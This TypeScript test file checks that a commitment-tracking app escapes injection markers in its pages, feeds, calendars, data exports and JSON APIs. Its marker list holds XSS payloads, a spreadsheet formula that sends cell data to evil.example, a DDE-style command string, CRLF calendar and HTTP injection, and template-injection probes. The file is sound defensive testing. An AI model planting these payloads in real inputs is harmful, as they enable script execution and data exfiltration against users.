import { SaxesParser } from 'saxes';
import { datasets } from '../../src/accountability/datasets';
import { outputColumns } from '../../src/plugins/accountability/server/src/datasets/output-columns';
import { adminToken } from '../support/accounts';
import { parseCsv } from '../support/csv';
import { FILE_READERS } from '../support/file-readers';
import { jsonRequest } from '../support/json-request';
import { makeCommitment, makeMilestone } from '../support/milestones';
import { attributes, readPage } from '../support/site-page';
import { bootTracker, type Tracker } from '../support/tracker';

/** What programs that read an answer would take for their own language. */
const MARKERS = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '@SUM(1+1)|cmd', // a spreadsheet's formula, and an old way to run a program by it
  '</script><script>mark(1)</script><img src=x onerror="mark(2)">',
  ']]><script>mark(3)</script><!-- --><![CDATA[ &xx; <?xml version="1.0"?>',
  'End\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Invented\r\n\r\nHTTP/1.1 200 OK',
  '\u202Ereversed\u202C \u2066isolated {{7*7}} ${7*7} <%= 7*7 %> %0d%0a $& $1',
  '[link](javascript:mark(4)) ![x](x"onerror="mark(5)) <https://evil.example/"onclick="mark(6)>',
  '{"@id":"https://evil.example"}\\u0022\\',
];
const FORMATS = ['csv', 'json', 'ndjson', 'xml', 'xlsx', 'parquet', 'jsonld'];
const MILESTONE = 'api::milestone.milestone';

describe('markers in the reasons of moves and in published reports', () => {
  let tracker: Tracker;
  let admin: string;
  let commitment: string;
  let page: string;
  const milestones: string[] = [];
  const get = async (path: string) => {
    const answer = await fetch(`${tracker.url}${path}`);
    expect([path, answer.status, answer.headers.get('x-content-type-options')]).toEqual([
      path,
      200,
      'nosniff',
    ]);
    return { type: answer.headers.get('content-type') ?? '', text: await answer.text() };
  };
  const move = async (contentType: string, documentId: string, transition: string, reason: string) => {
    const body = { contentType, documentId, workflow: 'implementation', transition, reason };
    const { status } = await jsonRequest(`${tracker.url}/accountability/transitions`, { token: admin, body });
    expect([transition, status]).toEqual([transition, 200]);
  };

  beforeAll(async () => {
    tracker = await bootTracker();
    admin = await adminToken(tracker);
    const timeframe = { endDate: '2027-10-01', endPrecision: 'day' };
    commitment = await makeCommitment(tracker, { title: 'Marked', data: { slug: 'marked', timeframe } });
    page = '/commitments/marked?locale=en';
    const reports = tracker.strapi.documents('api::progress-report.progress-report');
    for (const [index, marker] of MARKERS.entries()) {
      const title = index === 4 ? marker : `Step ${index}`;
      const milestone = await makeMilestone(tracker, { title, data: { commitment, timeframe } });
      milestones.push(milestone);
      await move(MILESTONE, milestone, 'start', marker);
      const { documentId } = await reports.create({
        locale: 'en',
        data: {
          commitment,
          milestone,
          period: { kind: 'annual', year: 2020 + index },
          narrative: marker,
          challenges: marker,
          assessorName: marker,
          evidence: [{ title: marker, url: 'https://example.org/' }],
          ratings: [{ scheme: 'completion', value: marker }],
        },
      } as never);
      await reports.publish({ documentId, locale: 'en' } as never);
    }
    await move('api::commitment.commitment', commitment, 'start', MARKERS.join('\n'));
  });
  afterAll(() => tracker.close());

  it('are words on every page, of which no element, attribute or address is made', async () => {
    for (const path of [
      page,
      '/commitments/marked',
      '/commitments/marked/card?locale=en',
      '/commitments/marked/comment-sent?locale=en',
      '/commitments?q=Marked',
      '/',
    ]) {
      const { text, status } = await readPage(tracker, path);
      expect([path, status]).toEqual([path, 200]);
      expect([path, text.match(/<script(?! type="(module|application\/ld\+json)")/g)]).toEqual([path, null]);
      const tags = text.replace(/"[^"]*"/g, '""');
      expect([path, tags.match(/<[^>]*\s(on\w+|style)=/g)]).toEqual([path, null]);
      const addresses = attributes(text, 'a', 'href').filter(
        (href) => !/^(https?:|\/|#|mailto:\?subject=)/.test(href),
      );
      expect([path, addresses]).toEqual([path, []]);
      // A paragraph of its own ends what it turns around: narrative and challenges of the report.
      const inline = text.replace(/<div class="prose"[^>]*>\s*<p>.*?<\/p>/g, '');
      expect([path, inline.match(/[\u202A-\u202E\u2066-\u2069]/)]).toEqual([path, null]);
      for (const [, data = ''] of text.matchAll(/<script type="application\/ld\+json">(.*?)<\/script>/gs))
        expect(() => JSON.parse(data) as unknown).not.toThrow();
    }
    const { seen } = await readPage(tracker, page);
    for (const words of [
      '=HYPERLINK("https://evil.example/?"&A1,"click")',
      'SUMMARY:Invented',
      '{{7*7}} ${7*7} <%= 7*7 %>',
    ])
      expect(seen).toContain(words);
  });

  it('are text in the feed and the calendar, which have no entry or line more', async () => {
    for (const locale of ['en', 'ka']) {
      const { text } = await get(`/api/open-data/changes.atom?locale=${locale}`);
      const names: string[] = [];
      const parser = new SaxesParser({ xmlns: true });
      parser.on('opentag', ({ name }) => names.push(name));
      parser.write(text).close();
      expect(names.filter((name) => name === 'entry')).toHaveLength(MARKERS.length + 1);
      expect(
        names.filter(
          (name) =>
            !/^(feed|entry|id|title|subtitle|updated|link|author|name|category|content|rights|generator|published|uri)$/.test(
              name,
            ),
        ),
      ).toEqual([]);
      expect(text.match(/type="(html|xhtml)"/)).toBeNull();
      expect(text).not.toMatch(/[\u202A-\u202E]/);

      const calendar = await get(`/api/open-data/deadlines.ics?locale=${locale}`);
      expect(calendar.type).toContain('text/calendar');
      const lines = calendar.text.split('\r\n');
      expect(lines.filter((line) => line === 'BEGIN:VEVENT')).toHaveLength(MARKERS.length + 1);
      expect(lines.filter((line) => /^(SUMMARY:Inv|HTTP)/.test(line))).toEqual([]);
      expect(lines.filter((line) => /[\r\n]/.test(line))).toEqual([]);
    }
  });

  it.each(['status-history', 'progress-reports'])(
    'are in each format of %s the text they were',
    async (name) => {
      const dataset = datasets.find((one) => one.name === name)!;
      const columns = outputColumns(dataset, ['ka', 'en']);
      for (const format of FORMATS) {
        const query = { csv: '?formulas=raw', xlsx: '?headers=names' }[format] ?? '';
        const answer = await fetch(`${tracker.url}/api/open-data/${name}.${format}${query}`);
        if (answer.status === 404 && format === 'jsonld') continue;
        expect([format, answer.status]).toEqual([format, 200]);
        const rows = await FILE_READERS[format]!(Buffer.from(await answer.arrayBuffer()), columns);
        const texts = new Set(
          rows
            .flatMap((row) => Object.values(row))
            .flat()
            .map(String),
        );
        // XML and workbooks read a line break of Windows as one of theirs.
        const same = (text: string) => texts.has(text) || texts.has(text.replaceAll('\r\n', '\n'));
        expect([format, MARKERS.filter((marker) => !same(marker))]).toEqual([format, []]);
      }
      const { text } = await get(`/api/open-data/${name}.csv`);
      const cells = parseCsv(text).flatMap((row) => Object.values(row));
      expect(cells.filter((cell) => /^[\s]*[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(cells).toContain(`'${MARKERS[0]}`);
    },
  );

  it('are JSON in the histories and in the panel, of a type no browser shows as a page', async () => {
    for (const [path, token] of [
      [`/api/commitments/${commitment}/status-history?include=milestones`, undefined],
      [`/api/milestones/${milestones[2]}/status-history`, undefined],
      [`/api/commitments/${commitment}?populate[milestones][populate]=progressReports`, undefined],
      [`/accountability/documents/api::commitment.commitment/${commitment}/workflows`, admin],
      [`/accountability/documents/${MILESTONE}/${milestones[2]}/workflows`, admin],
      ['/accountability/workflow-overview', admin],
    ] as const) {
      const headers = token ? { authorization: `Bearer ${token}` } : undefined;
      const answer = await fetch(`${tracker.url}${path}`, { headers });
      expect([path, answer.status]).toEqual([path, 200]);
      expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      await answer.json();
    }
    const { body } = await jsonRequest<{ data: { reason: string }[] }>(
      `${tracker.url}/api/milestones/${milestones[2]}/status-history`,
    );
    expect(body.data[0]?.reason).toBe(MARKERS[2]);
  });
});
